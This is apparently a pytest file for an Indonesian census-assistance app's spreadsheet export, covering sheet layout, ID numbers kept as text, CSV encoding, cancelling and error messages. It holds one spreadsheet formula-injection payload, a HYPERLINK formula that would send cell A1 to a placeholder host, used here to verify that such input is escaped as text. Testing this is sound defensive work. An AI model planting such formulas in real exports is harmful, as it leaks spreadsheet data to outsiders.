"""The handover spreadsheets, read back with openpyxl (normal mode) and the csv module.

The lines are built by hand: these tests check the layout, not the figures' source.
Expected headers and values are written out literally, so a changed column fails here.
"""

from __future__ import annotations

import csv
import errno
import os
import stat
import sys
import tempfile
from dataclasses import replace
from datetime import UTC, date, datetime, time
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from factories import make_household_line, make_visit_line

from sp_desktop.core.base import files
from sp_desktop.core.base.errors import DiskFullError, UserFacingError
from sp_desktop.core.base.progress import Cancelled, Progress
from sp_desktop.core.documents import spreadsheets
from sp_desktop.core.documents.spreadsheets import (
    ExportCounts,
    write_csv,
    write_visits_csv,
    write_xlsx,
)
from sp_desktop.core.domain.model import FailureReason, HelpReason, Outcome
from sp_desktop.core.domain.reports import (
    DocumentHeader,
    HouseholdLine,
    KelurahanTotals,
    RecapData,
    ReportFilter,
    VisitLine,
)

HOUSEHOLD_HEADER = [
    "No", "No KK", "NIK Kepala Keluarga", "Nama Kepala Keluarga", "Kode Kelurahan",
    "Kelurahan/Desa", "Alamat", "RT", "RW", "Jumlah Anggota", "Alasan Didampingi",
    "Status Terakhir", "Tanggal Kunjungan Terakhir", "Alasan Gagal", "Tanggal Kunjungan Ulang",
    "Jumlah Kunjungan", "Perlu SP Wawancara",
]  # fmt: skip
VISIT_HEADER = [
    "No", "Tanggal", "Jam", "No KK", "NIK Kepala Keluarga", "Nama Kepala Keluarga",
    "Kelurahan/Desa", "RT", "RW", "Hasil", "Alasan Gagal", "Keterangan Gagal",
    "Tanggal Kunjungan Ulang", "Petugas", "NIP Petugas", "Posko", "Berkas Bukti Pengisian",
    "Catatan",
]  # fmt: skip

AMPENAN = "5271011001"
AMPENAN_LABEL = "Kelurahan Ampenan Selatan, Kec. Ampenan, Kota Mataram"
TAMAN = "5271021004"
TAMAN_LABEL = "Kelurahan Taman Sari, Kec. Ampenan, Kota Mataram"
HELPER_NIP = "198507142010011002"  # 18 digits
# Where the lines of these tests stand (the factories' own numbers and place differ).
_HERE: dict[str, Any] = {
    "no_kk": "5271010101200003",
    "head_nik": "5271014507850001",
    "kelurahan_code": AMPENAN,
    "kelurahan_label": AMPENAN_LABEL,
}
INJECTION = '=HYPERLINK("http://contoh.invalid/?q="&A1,"Klik")'


def household(**changes: Any) -> HouseholdLine:
    """make_household_line's household, visited successfully, in Ampenan Selatan."""
    line = make_household_line(
        1, **_HERE, status=Outcome.BERHASIL, failure_reason=None, revisit_date=None
    )
    return replace(line, **changes)


def visit(**changes: Any) -> VisitLine:
    """make_visit_line's visit, successful, with two proof files."""
    line = make_visit_line(
        1,
        **_HERE,
        outcome=Outcome.BERHASIL,
        failure_reason=None,
        revisit_date=None,
        helper_nip=HELPER_NIP,
        proof_files=2,
    )
    return replace(line, **changes)


HOUSEHOLDS = [
    household(),
    household(
        household_id="h-2",
        no_kk="5271010909150021",
        head_nik="5271016512990009",
        head_name=INJECTION,
        address="+62 Gang Melati",
        rt="001",
        rw="002",
        members=6,
        help_reason=HelpReason.TIDAK_PUNYA_ANDROID,
        status=Outcome.GAGAL,
        last_visit_at=datetime(2020, 3, 5, 14, 40),
        failure_reason=FailureReason.SITUS_SIBUK,
        revisit_date=date(2020, 3, 12),
        visits=2,
    ),
    household(
        household_id="h-3",
        no_kk="5271020202160007",
        head_nik="5271020101700004",
        head_name="Made Sukarta",
        kelurahan_code=TAMAN,
        kelurahan_label=TAMAN_LABEL,
        status=None,
        last_visit_at=None,
        visits=0,
    ),
    household(
        household_id="h-4",
        no_kk="",
        head_nik="",
        head_name="",
        address="",
        kelurahan_code=TAMAN,
        kelurahan_label=TAMAN_LABEL,
        status=Outcome.BELUM,
        last_visit_at=datetime(2020, 3, 7, 8, 0),
        erased=True,
    ),
    household(
        household_id="h-5",
        no_kk="5271**********09",
        head_nik="5271**********17",
        head_name="Ni Luh Putu Ayu",
        numbers_hidden=True,
    ),
]

VISITS = [
    visit(),
    visit(
        visit_id="v-2",
        visited_at=datetime(2020, 3, 4, 10, 5),
        outcome=Outcome.GAGAL,
        failure_reason=FailureReason.SITUS_SIBUK,
        failure_note="@petugas: situs down\x0b sejak pagi",
        revisit_date=date(2020, 3, 12),
        note="-",
        household_id="h-2",
        no_kk="5271010909150021",
        head_nik="5271016512990009",
        head_name=INJECTION,
        proof_files=0,
    ),
    visit(
        visit_id="v-3",
        visited_at=datetime(2020, 3, 5, 14, 40),
        outcome=Outcome.GAGAL,
        failure_reason=FailureReason.SITUS_SIBUK,
        failure_note="#N/A",
        revisit_date=date(2020, 3, 12),
        household_id="h-2",
        no_kk="5271010909150021",
        head_nik="5271016512990009",
        head_name=INJECTION,
        proof_files=0,
    ),
    visit(
        visit_id="v-4",
        visited_at=datetime(2020, 3, 7, 8, 0),
        outcome=Outcome.BELUM,
        household_id="h-4",
        no_kk="",
        head_nik="",
        head_name="",
        kelurahan_code=TAMAN,
        kelurahan_label=TAMAN_LABEL,
        erased=True,
        proof_files=0,
    ),
]


def make_recap() -> RecapData:
    header = DocumentHeader(
        office="Kantor Lurah Ampenan Selatan",
        office_kelurahan=AMPENAN_LABEL,
        scope_text="Semua data",
        period_text="1 Maret 2020 – 31 Maret 2020",
        generated_at=datetime(2020, 4, 1, 16, 30),
        generated_by="Lalu Ahmad Fauzi (1985************02)",
        key_fingerprint="3F9A-C21B-77E0-D4E5",
    )
    return RecapData(
        header=header,
        filter=ReportFilter(date_from=date(2020, 3, 1), date_to=date(2020, 3, 31)),
        visits_by_outcome={Outcome.BERHASIL: 1, Outcome.GAGAL: 2, Outcome.BELUM: 1},
        households_by_status={Outcome.BERHASIL: 2, Outcome.GAGAL: 1, Outcome.BELUM: 1, None: 1},
        failures_by_reason={FailureReason.SITUS_SIBUK: 2},
        by_kelurahan=[
            KelurahanTotals(AMPENAN, AMPENAN_LABEL, 3, 2, 1, 0, 3),
            KelurahanTotals(TAMAN, TAMAN_LABEL, 2, 0, 0, 2, 1),
        ],
        content_hash="ab" * 32,
    )


@pytest.fixture(scope="module")
def workbook(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, ExportCounts]:
    path = tmp_path_factory.mktemp("xlsx") / "rekap.xlsx"
    counts = write_xlsx(
        path, make_recap(), iter(HOUSEHOLDS), iter(VISITS), total_rows=len(HOUSEHOLDS) + 4
    )
    return path, counts


@pytest.fixture(scope="module")
def book(workbook: tuple[Path, ExportCounts]) -> openpyxl.Workbook:
    return openpyxl.load_workbook(workbook[0])


def values(ws: Any) -> list[list[Any]]:
    return [list(row) for row in ws.iter_rows(values_only=True)]


def column(ws: Any, title: str) -> list[Any]:
    """The cells (not values) of one column below the header."""
    header = [cell.value for cell in ws[1]]
    index = header.index(title)
    return [row[index] for row in ws.iter_rows(min_row=2)]


# -- workbook layout ------------------------------------------------------------------------


def test_sheets_in_order_with_their_headers(book: openpyxl.Workbook) -> None:
    assert book.sheetnames == ["Ringkasan", "Rumah Tangga", "Kunjungan", "Perlu SP Wawancara"]
    for name, header in (
        ("Rumah Tangga", HOUSEHOLD_HEADER),
        ("Kunjungan", VISIT_HEADER),
        ("Perlu SP Wawancara", HOUSEHOLD_HEADER),
    ):
        ws = book[name]
        assert [cell.value for cell in ws[1]] == header
        assert all(cell.font.bold for cell in ws[1])
        assert ws.freeze_panes == "A2"
        assert ws.column_dimensions["B"].width > 10  # widths were set, not Excel's 8.43
    assert book.properties.creator == "SP Desktop"
    assert book.properties.title == "Rekap Pendampingan Sensus Penduduk Online 2020"


def test_row_counts_and_autofilter(
    workbook: tuple[Path, ExportCounts], book: openpyxl.Workbook
) -> None:
    assert workbook[1] == ExportCounts(households=5, visits=4, needing_interview=3)
    assert book["Rumah Tangga"].max_row == 1 + 5
    assert book["Kunjungan"].max_row == 1 + 4
    assert book["Perlu SP Wawancara"].max_row == 1 + 3
    assert book["Rumah Tangga"].auto_filter.ref == "A1:Q6"
    assert book["Kunjungan"].auto_filter.ref == "A1:R5"
    assert book["Perlu SP Wawancara"].auto_filter.ref == "A1:Q4"


def test_household_rows_read_back(book: openpyxl.Workbook) -> None:
    rows = values(book["Rumah Tangga"])[1:]
    assert rows[0] == [
        1, "5271010101200003", "5271014507850001", "Baiq Nurul Aini", AMPENAN, AMPENAN_LABEL,
        "Jl. Saleh Sungkar No. 12", "003", "011", 4, "Lanjut usia", "Berhasil",
        datetime(2020, 3, 2), None, None, 1, "Tidak",
    ]  # fmt: skip
    assert rows[1] == [
        2, "5271010909150021", "5271016512990009", INJECTION, AMPENAN, AMPENAN_LABEL,
        "+62 Gang Melati", "001", "002", 6, "Tidak punya HP Android", "Gagal",
        datetime(2020, 3, 5), "Situs sibuk / tidak bisa dibuka", datetime(2020, 3, 12), 2, "Ya",
    ]  # fmt: skip
    # Never visited.
    assert rows[2][11:] == ["Belum dikunjungi", None, None, None, 0, "Ya"]
    # Personal data erased: a marker instead of the name, no numbers.
    assert rows[3][1:4] == [None, None, "(data pribadi dihapus)"]
    assert rows[3][11] == "Belum"
    # Masked numbers arrive masked and stay so.
    assert rows[4][1:3] == ["5271**********09", "5271**********17"]


def test_visit_rows_read_back(book: openpyxl.Workbook) -> None:
    rows = values(book["Kunjungan"])[1:]
    assert rows[0] == [
        1, datetime(2020, 3, 2), time(9, 15), "5271010101200003", "5271014507850001",
        "Baiq Nurul Aini", AMPENAN_LABEL, "003", "011", "Berhasil", None, None, None,
        "Lalu Ahmad Fauzi", HELPER_NIP, "Posko Kantor Lurah", 2, None,
    ]  # fmt: skip
    assert rows[1][9:13] == [
        "Gagal",
        "Situs sibuk / tidak bisa dibuka",
        "@petugas: situs down sejak pagi",  # the vertical tab XML cannot hold is dropped
        datetime(2020, 3, 12),
    ]
    assert rows[1][17] == "-"
    assert rows[2][11] == "#N/A"
    assert rows[3][3:6] == [None, None, "(data pribadi dihapus)"]


def test_numbers_are_text_cells_with_every_digit(book: openpyxl.Workbook) -> None:
    for sheet, titles in (
        ("Rumah Tangga", ("No KK", "NIK Kepala Keluarga", "Kode Kelurahan", "RT", "RW")),
        ("Kunjungan", ("No KK", "NIK Kepala Keluarga", "RT", "RW", "NIP Petugas")),
    ):
        for title in titles:
            cells = [c for c in column(book[sheet], title) if c.value is not None]
            assert cells, (sheet, title)
            for cell in cells:
                assert cell.data_type == "s", (sheet, title)
                assert isinstance(cell.value, str)
                if title in ("No KK", "NIK Kepala Keluarga", "NIP Petugas"):
                    # Text format too: a retyped 16-digit number must not be rounded.
                    assert cell.number_format == "@", (sheet, title)
    rts = [c.value for c in column(book["Rumah Tangga"], "RT")][1:]
    assert all(len(rt) == 3 for rt in rts if rt)  # "003" keeps its zeros
    niks = [c.value for c in column(book["Rumah Tangga"], "NIK Kepala Keluarga")]
    # 16 digits: more than a double holds, Excel would round the last digit to 0.
    assert niks[:3] == ["5271014507850001", "5271016512990009", "5271020101700004"]
    assert [c.value for c in column(book["Kunjungan"], "NIP Petugas")] == [HELPER_NIP] * 4


def test_dates_and_times_are_real_excel_values(book: openpyxl.Workbook) -> None:
    last = column(book["Rumah Tangga"], "Tanggal Kunjungan Terakhir")[1]
    assert last.is_date and last.value == datetime(2020, 3, 5)
    assert last.number_format == "DD/MM/YYYY"
    revisit = column(book["Kunjungan"], "Tanggal Kunjungan Ulang")[1]
    assert revisit.is_date and revisit.number_format == "DD/MM/YYYY"
    at = column(book["Kunjungan"], "Jam")[1]
    assert at.value == time(10, 5) and at.number_format == "HH:MM"


def test_typed_text_never_becomes_a_formula(book: openpyxl.Workbook) -> None:
    name = column(book["Rumah Tangga"], "Nama Kepala Keluarga")[1]
    assert name.value == INJECTION
    assert name.data_type == "s"  # "f" would be a formula
    assert name.quotePrefix  # and stays text when edited in Excel
    interview = column(book["Perlu SP Wawancara"], "Nama Kepala Keluarga")[0]
    assert (interview.value, interview.data_type) == (INJECTION, "s")
    address = column(book["Rumah Tangga"], "Alamat")[1]
    assert (address.value, address.data_type, address.quotePrefix) == (
        "+62 Gang Melati",
        "s",
        True,
    )
    error_like = column(book["Kunjungan"], "Keterangan Gagal")[2]
    assert (error_like.value, error_like.data_type) == ("#N/A", "s")  # not an error value
    plain = column(book["Rumah Tangga"], "Nama Kepala Keluarga")[0]
    assert not plain.quotePrefix
    for ws in book.worksheets:
        for row in ws.iter_rows():
            assert all(cell.data_type != "f" for cell in row), ws.title


def test_interview_sheet_holds_exactly_the_unfinished_households(
    book: openpyxl.Workbook,
) -> None:
    rows = values(book["Perlu SP Wawancara"])[1:]
    assert [row[0] for row in rows] == [1, 2, 3]  # numbered on their own
    assert [(row[2], row[11]) for row in rows] == [
        ("5271016512990009", "Gagal"),
        ("5271020101700004", "Belum dikunjungi"),
        (None, "Belum"),  # erased: still to be interviewed, no numbers
    ]
    assert all(row[16] == "Ya" for row in rows)
    house_rows = values(book["Rumah Tangga"])[1:]
    assert [row[1:] for row in rows] == [row[1:] for row in house_rows if row[16] == "Ya"]


def summary_section(ws: Any, title: str) -> dict[Any, Any]:
    """label -> first figure of the rows under a section title, up to the blank row."""
    rows = values(ws)
    start = next(i for i, row in enumerate(rows) if row[0] == title)
    section: dict[Any, Any] = {}
    for row in rows[start + 2 :]:
        if all(v is None for v in row):
            break
        section[row[0]] = row[1] if row[1] is not None else row[2:7]
    return section


def test_summary_matches_the_recap(book: openpyxl.Workbook) -> None:
    ws = book["Ringkasan"]
    rows = values(ws)
    assert rows[0][0] == "Rekap Pendampingan Sensus Penduduk Online 2020"
    facts = {row[0]: row[1] for row in rows[2:10]}
    assert facts == {
        "Kantor": "Kantor Lurah Ampenan Selatan",
        "Kelurahan kantor": AMPENAN_LABEL,
        "Periode": "1 Maret 2020 – 31 Maret 2020",
        "Cakupan": "Semua data",
        "Dibuat pada": datetime(2020, 4, 1, 16, 30),
        "Dibuat oleh": "Lalu Ahmad Fauzi (1985************02)",
        "Sidik kunci kantor": "3F9A-C21B-77E0-D4E5",
        "Kode pemeriksaan isi": "ab" * 32,
    }
    assert summary_section(ws, "Rumah tangga menurut status terakhir") == {
        "Berhasil": 2,
        "Gagal": 1,
        "Belum": 1,
        "Belum dikunjungi": 1,
        "Jumlah": 5,
        "Perlu SP Wawancara (belum berhasil)": 3,
    }
    assert summary_section(ws, "Kunjungan menurut hasil") == {
        "Berhasil": 1,
        "Gagal": 2,
        "Belum": 1,
        "Jumlah": 4,
    }
    failures = summary_section(ws, "Kunjungan gagal menurut alasan")
    assert failures["Situs sibuk / tidak bisa dibuka"] == 2
    assert failures["Captcha gagal"] == 0
    assert failures["Jumlah"] == 2
    assert len(failures) == len(FailureReason) + 1
    start = next(i for i, row in enumerate(rows) if row[0] == "Per kelurahan/desa")
    assert rows[start + 1][:7] == [
        "Kode Kelurahan", "Kelurahan/Desa", "Rumah Tangga", "Berhasil", "Gagal", "Belum",
        "Kunjungan",
    ]  # fmt: skip
    assert rows[start + 2][:7] == [AMPENAN, AMPENAN_LABEL, 3, 2, 1, 0, 3]
    assert rows[start + 3][:7] == [TAMAN, TAMAN_LABEL, 2, 0, 0, 2, 1]
    assert rows[start + 4][:7] == ["Jumlah", None, 5, 2, 1, 2, 4]
    assert ws.cell(start + 3, 1).number_format == "@"


def test_overwrites_an_existing_file_and_leaves_only_it(tmp_path: Path) -> None:
    path = tmp_path / "rekap.xlsx"
    path.write_bytes(b"old export")
    before = set(os.listdir(tempfile.gettempdir()))
    write_xlsx(path, make_recap(), HOUSEHOLDS, VISITS)
    assert openpyxl.load_workbook(path).sheetnames[0] == "Ringkasan"
    assert os.listdir(tmp_path) == ["rekap.xlsx"]
    # The sheets' scratch files go next to the target, not to the system temp folder.
    new_in_temp = set(os.listdir(tempfile.gettempdir())) - before
    assert not [name for name in new_in_temp if name.startswith("openpyxl")]
    if sys.platform != "win32":
        assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_empty_export_still_has_every_sheet(tmp_path: Path) -> None:
    path = tmp_path / "kosong.xlsx"
    recap = replace(make_recap(), visits_by_outcome={}, households_by_status={}, by_kelurahan=[])
    assert write_xlsx(path, recap, [], []) == ExportCounts(0, 0, 0)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Ringkasan", "Rumah Tangga", "Kunjungan", "Perlu SP Wawancara"]
    assert values(book["Rumah Tangga"]) == [HOUSEHOLD_HEADER]
    assert book["Kunjungan"].auto_filter.ref == "A1:R1"


# -- progress and cancelling ----------------------------------------------------------------


def many_households(count: int) -> list[HouseholdLine]:
    return [
        household(
            household_id=f"h-{i}",
            head_nik=f"52710145078{i:05d}",
            status=Outcome.GAGAL if i % 4 == 0 else Outcome.BERHASIL,
        )
        for i in range(count)
    ]


def test_progress_every_thousand_rows(tmp_path: Path) -> None:
    reports: list[tuple[int, int]] = []
    seen: dict[str, int] = {}

    def on_report(done: int, total: int, _text: str) -> None:
        reports.append((done, total))
        if done == 1000:  # mid-way: what lies in the target folder, with which mode
            seen.update({p.name: stat.S_IMODE(p.stat().st_mode) for p in tmp_path.iterdir()})

    lines = many_households(2500)
    counts = write_xlsx(
        tmp_path / "r.xlsx", make_recap(), lines, [], total_rows=2500, progress=Progress(on_report)
    )
    assert counts == ExportCounts(households=2500, visits=0, needing_interview=625)
    row_reports = [r for r in reports if r[0] not in (0, 2500)]
    assert row_reports == [(1000, 2500), (2000, 2500)]
    assert reports[-1] == (2500, 2500)
    # The partial file and one scratch file per sheet, all owner-only, next to the target.
    assert "r.xlsx.partial" in seen
    scratch = [name for name in seen if name.startswith("r.xlsx.lembar-")]
    assert len(scratch) == 4 and all(name.endswith(".partial") for name in scratch)
    if sys.platform != "win32":
        assert set(seen.values()) == {0o600}
    assert os.listdir(tmp_path) == ["r.xlsx"]


@pytest.mark.parametrize("kind", ["xlsx", "csv", "visits_csv"])
def test_cancel_leaves_nothing_behind(tmp_path: Path, kind: str) -> None:
    progress = Progress()

    def lines() -> Any:
        for i, line in enumerate(many_households(3000)):
            if i == 1500:
                progress.cancel()  # the user presses Batal halfway
            yield line

    def visits() -> Any:
        for i, line in enumerate(lines()):
            yield visit(visit_id=f"v-{i}", head_nik=line.head_nik)

    path = tmp_path / f"rekap.{kind}"
    before = set(os.listdir(tempfile.gettempdir()))
    with pytest.raises(Cancelled):
        if kind == "xlsx":
            write_xlsx(path, make_recap(), lines(), [], progress=progress)
        elif kind == "csv":
            write_csv(path, lines(), progress=progress)
        else:
            write_visits_csv(path, visits(), progress=progress)
    assert os.listdir(tmp_path) == []
    new_in_temp = set(os.listdir(tempfile.gettempdir())) - before
    assert not [name for name in new_in_temp if name.startswith("openpyxl")]


def test_cancel_while_saving_keeps_no_file(tmp_path: Path) -> None:
    progress = Progress(
        lambda _d, _t, text: progress.cancel() if text.startswith("Menyimpan") else None
    )
    with pytest.raises(Cancelled):
        write_xlsx(tmp_path / "r.xlsx", make_recap(), HOUSEHOLDS, VISITS, progress=progress)
    assert os.listdir(tmp_path) == []


# -- errors ---------------------------------------------------------------------------------


def assert_no_personal_numbers(err: UserFacingError) -> None:
    text = str(err)
    for line in HOUSEHOLDS:
        for number in (line.no_kk, line.head_nik):
            assert not number or number not in text
    assert "5271" not in text


def test_missing_folder_is_a_user_facing_error(tmp_path: Path) -> None:
    target = tmp_path / "flashdisk-dicabut" / "rekap.xlsx"
    with pytest.raises(UserFacingError) as caught:
        write_xlsx(target, make_recap(), HOUSEHOLDS, VISITS)
    assert "Folder tujuan tidak ditemukan" in str(caught.value)
    assert_no_personal_numbers(caught.value)
    with pytest.raises(UserFacingError):
        write_csv(tmp_path / "tidak-ada" / "rumah-tangga.csv", HOUSEHOLDS)


def test_read_only_folder_is_a_user_facing_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "hanya-baca"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        if sys.platform == "win32" or os.geteuid() == 0:
            # Root (and Windows) ignore the folder's mode: refuse the create instead.
            real_open = os.open

            def refuse(name: Any, *args: Any, **kwargs: Any) -> int:
                if Path(name).parent == folder:
                    raise PermissionError(errno.EACCES, "Permission denied", str(name))
                return real_open(name, *args, **kwargs)

            monkeypatch.setattr(os, "open", refuse)
        for write in (
            lambda: write_xlsx(folder / "rekap.xlsx", make_recap(), HOUSEHOLDS, VISITS),
            lambda: write_csv(folder / "rumah-tangga.csv", HOUSEHOLDS),
        ):
            with pytest.raises(UserFacingError) as caught:
                write()
            assert "tidak boleh ditulis" in str(caught.value)
            assert_no_personal_numbers(caught.value)
        monkeypatch.undo()
        assert os.listdir(folder) == []
    finally:
        folder.chmod(0o700)


@pytest.mark.parametrize("code", [errno.ENOSPC, errno.EFBIG])
def test_full_disk_says_what_to_do(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, code: int
) -> None:
    def full(_fd: int) -> None:
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(spreadsheets.os, "fsync", full)
    with pytest.raises(DiskFullError) as caught:
        write_xlsx(tmp_path / "rekap.xlsx", make_recap(), HOUSEHOLDS, VISITS)
    assert "Disk penuh" in caught.value.message
    assert "Kosongkan ruang disk" in caught.value.hint
    assert_no_personal_numbers(caught.value)
    with pytest.raises(DiskFullError):
        write_visits_csv(tmp_path / "kunjungan.csv", VISITS)
    assert os.listdir(tmp_path) == []


def test_target_open_in_excel(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def held(_src: Any, _dst: Any) -> None:
        # What Windows says when Excel holds the old export open.
        raise PermissionError(errno.EACCES, "The process cannot access the file")

    monkeypatch.setattr(spreadsheets.os, "replace", held)
    monkeypatch.setattr(files, "_sleep", lambda _seconds: None)  # the retries, without waiting
    with pytest.raises(UserFacingError) as caught:
        write_csv(tmp_path / "rumah-tangga.csv", HOUSEHOLDS)
    assert "sedang dibuka program lain" in str(caught.value)
    assert os.listdir(tmp_path) == []


# -- CSV ------------------------------------------------------------------------------------


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as src:
        return list(csv.reader(src))


def test_households_csv(tmp_path: Path) -> None:
    path = tmp_path / "rumah-tangga.csv"
    assert write_csv(path, iter(HOUSEHOLDS)) == 5
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfNo,No KK,NIK Kepala Keluarga,")
    assert raw.count(b"\r\n") == 6 and raw.count(b"\n") == 6  # CRLF, one per row
    rows = read_csv(path)
    assert rows[0] == HOUSEHOLD_HEADER
    assert rows[1] == [
        "1", "5271010101200003", "5271014507850001", "Baiq Nurul Aini", AMPENAN,
        AMPENAN_LABEL, "Jl. Saleh Sungkar No. 12", "003", "011", "4", "Lanjut usia",
        "Berhasil", "2020-03-02", "", "", "1", "Tidak",
    ]  # fmt: skip
    # Formula-looking text gets an apostrophe; the 16 digits stay plain digits.
    assert rows[2][1:4] == ["5271010909150021", "5271016512990009", "'" + INJECTION]
    assert rows[2][6] == "'+62 Gang Melati"
    assert rows[2][11:] == ["Gagal", "2020-03-05", "Situs sibuk / tidak bisa dibuka",
                            "2020-03-12", "2", "Ya"]  # fmt: skip
    assert rows[3][11:] == ["Belum dikunjungi", "", "", "", "0", "Ya"]
    assert rows[4][1:4] == ["", "", "(data pribadi dihapus)"]
    assert rows[5][1:3] == ["5271**********09", "5271**********17"]
    if sys.platform != "win32":
        assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_visits_csv(tmp_path: Path) -> None:
    path = tmp_path / "kunjungan.csv"
    assert write_visits_csv(path, VISITS) == 4
    assert path.read_bytes().startswith(b"\xef\xbb\xbfNo,Tanggal,Jam,")
    rows = read_csv(path)
    assert rows[0] == VISIT_HEADER
    assert rows[1] == [
        "1", "2020-03-02", "09:15", "5271010101200003", "5271014507850001", "Baiq Nurul Aini",
        AMPENAN_LABEL, "003", "011", "Berhasil", "", "", "", "Lalu Ahmad Fauzi", HELPER_NIP,
        "Posko Kantor Lurah", "2", "",
    ]  # fmt: skip
    assert rows[2][5] == "'" + INJECTION
    assert rows[2][11] == "'@petugas: situs down sejak pagi"
    assert rows[2][17] == "'-"
    assert rows[3][11] == "#N/A"  # not a formula in CSV: left as typed
    assert rows[4][3:6] == ["", "", "(data pribadi dihapus)"]


def test_multiline_note_survives_csv(tmp_path: Path) -> None:
    path = tmp_path / "kunjungan.csv"
    write_visits_csv(path, [visit(note='Baris satu,\r\nbaris "dua"')])
    assert read_csv(path)[1][17] == 'Baris satu,\r\nbaris "dua"'


def test_aware_times_become_the_local_wall_clock(tmp_path: Path) -> None:
    # Excel has no time zones; openpyxl refuses aware datetimes outright.
    at = datetime(2020, 3, 2, 1, 15, tzinfo=UTC)
    local = at.astimezone()
    path = tmp_path / "rekap.xlsx"
    write_xlsx(path, make_recap(), [household(last_visit_at=at)], [visit(visited_at=at)])
    book = openpyxl.load_workbook(path)
    assert values(book["Kunjungan"])[1][1:3] == [
        datetime(local.year, local.month, local.day),
        time(local.hour, local.minute),
    ]
    assert values(book["Rumah Tangga"])[1][12] == datetime(local.year, local.month, local.day)
